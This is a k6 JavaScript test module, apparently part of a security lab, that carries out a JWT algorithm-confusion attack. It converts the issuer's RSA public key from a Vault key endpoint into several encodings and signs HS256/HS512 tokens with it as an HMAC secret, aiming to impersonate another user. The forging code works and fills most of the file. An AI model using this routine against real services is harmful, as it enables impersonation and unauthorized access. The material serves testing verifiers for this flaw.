// RFC 8725, section 2.1: a verifier that leaves the algorithm to the token takes the issuer's public key, which everybody
// has, for the secret of an HMAC.
import encoding from 'k6/encoding';
import { bobs, own, asBob } from '../lib/forge.js';
import { header } from '../lib/lab.js';

export function benign(lab) { own(lab, lab.stolen.access_token); }

// spki is an RSA key as SubjectPublicKeyInfo (RFC 5280), in DER.
function spki(jwk) {
  const raw = (text) => [...new Uint8Array(encoding.b64decode(text, 'rawurl'))];
  const der = (tag, bytes) => [tag].concat(bytes.length < 128 ? [bytes.length] : bytes.length < 256 ? [0x81, bytes.length] : [0x82, bytes.length >> 8, bytes.length & 255], bytes);
  const integer = (bytes) => der(2, bytes[0] > 127 ? [0].concat(bytes) : bytes);
  const rsa = der(0x30, [6, 9, 0x2a, 0x86, 0x48, 0x86, 0xf7, 0x0d, 1, 1, 1, 5, 0]);
  return der(0x30, rsa.concat(der(3, [0].concat(der(0x30, integer(raw(jwk.n)).concat(integer(raw(jwk.e))))))));
}

export function attack(lab) {
  const keys = JSON.parse(lab.mesh.http({ address: lab.control.vault, tls: { ca: lab.ca, serverName: '127.0.0.1' }, path: '/v1/identity/oidc/.well-known/keys' }).body).keys;
  const { kid } = header(lab.stolen.access_token);
  const key = keys.find((k) => k.kid === kid);
  const der = new Uint8Array(spki(key)).buffer;
  const base64 = encoding.b64encode(der);
  const pem = `-----BEGIN PUBLIC KEY-----\n${base64.match(/.{1,64}/g).join('\n')}\n-----END PUBLIC KEY-----\n`;
  const secrets = [pem, pem.trim(), der, base64, JSON.stringify(key), key.n, JSON.stringify({ keys }), ''];
  const tokens = [];
  for (const alg of ['HS256', 'HS512']) for (const secret of secrets) tokens.push(lab.mesh.jws({ header: { alg, typ: 'JWT', kid }, payload: bobs(lab), sign: alg, key: secret }));
  asBob(lab, tokens);
}
